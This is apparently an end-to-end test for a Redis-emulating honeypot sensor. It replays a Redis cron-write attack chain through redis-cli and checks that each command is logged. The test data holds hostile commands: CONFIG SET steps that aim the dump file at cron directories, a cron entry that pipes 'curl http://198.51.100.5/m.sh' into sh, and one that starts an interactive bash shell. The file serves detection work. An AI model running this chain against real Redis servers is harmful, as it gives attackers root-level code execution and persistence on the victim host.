// End to end: Debian's real `redis-cli` runs a cron-write chain and INFO against the sensor,
// and the event store holds each command and the chain's evidence.

import { spawnSync } from 'node:child_process';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportEvents, freePort, startSensor, type RunningSensor } from './helpers/sensor.js';

const HOST = '127.0.2.1';
const HAS_CLI = spawnSync('redis-cli', ['--version']).status === 0;
const CRON = '\n*/1 * * * * root curl http://198.51.100.5/m.sh|sh\n';

describe('redis-cli against the Redis emulation', () => {
  let sensor: RunningSensor;
  let port: number;

  function cli(...args: string[]) {
    return spawnSync('redis-cli', ['-h', HOST, '-p', String(port), ...args],
      { encoding: 'utf8', timeout: 15_000 });
  }

  /** redis-cli reading commands from stdin sends them all over one connection. */
  function piped(lines: string[]) {
    return spawnSync('redis-cli', ['-h', HOST, '-p', String(port)],
      { encoding: 'utf8', timeout: 15_000, input: lines.join('\n') + '\n' });
  }

  beforeAll(async () => {
    if (!HAS_CLI) return;
    port = await freePort(HOST);
    sensor = await startSensor({ ports: `tcp:${port}`, listen: HOST });
  });

  afterAll(async () => {
    await sensor?.stop();
  });

  it.skipIf(!HAS_CLI)('runs a cron-write chain and INFO, all recorded (needs redis-cli)',
    async () => {
      expect(cli('config', 'set', 'dir', '/etc/cron.d').stdout).toBe('OK\n');
      expect(cli('config', 'set', 'dbfilename', 'root').stdout).toBe('OK\n');
      expect(cli('set', 'x', CRON).stdout).toBe('OK\n');
      expect(cli('save').stdout).toBe('OK\n');
      const info = cli('info');
      expect(info.stdout).toMatch(/^# Server\r?\nredis_version:6\.0\.16\r?\n/);
      expect(info.stdout).toContain('role:master');
      expect(cli('ping').stdout).toBe('PONG\n');
      const chain = piped(['config set dir /var/spool/cron/crontabs', 'config get dir',
        'config set dbfilename root', 'set y "\\n* * * * * bash -i\\n"', 'bgsave']);
      expect(chain.stdout).toBe('OK\ndir\n/var/spool/cron/crontabs\nOK\nOK\n' +
        'Background saving started\n');

      await sensor.stop();
      const events = exportEvents(sensor.db).filter((e) => e.protocol === 'redis');
      const chained = events.find((e) => e.commands.length > 1);
      // redis-cli 7 asks for COMMAND DOCS first; Redis 6.0 refuses it, so it falls back.
      expect(chained?.commands).toEqual(['COMMAND DOCS', 'COMMAND',
        'config set dir /var/spool/cron/crontabs', 'config get dir', 'config set dbfilename root',
        'set y "\\n* * * * * bash -i\\n"',
        'bgsave']);
      expect(chained?.fields['config_set']).toEqual({ dir: '/var/spool/cron/crontabs',
        dbfilename: 'root' });
      const commands = events.map((e) => e.commands).filter((c) => c.length === 1 &&
        c[0] !== 'ping');
      expect(commands).toEqual([['config set dir /etc/cron.d'],
        ['config set dbfilename root'],
        ['set x "\\n*/1 * * * * root curl http://198.51.100.5/m.sh|sh\\n"'], ['save'],
        ['info']]);
      expect(events.find((e) => e.commands[0]?.startsWith('config set dir'))?.fields)
        .toMatchObject({ config_set: { dir: '/etc/cron.d' }, commands_total: 1 });
      expect(events.find((e) => e.commands[0]?.startsWith('set x'))?.fields['keys_set'])
        .toEqual([{ key: 'x', value: CRON }]);
    });
});
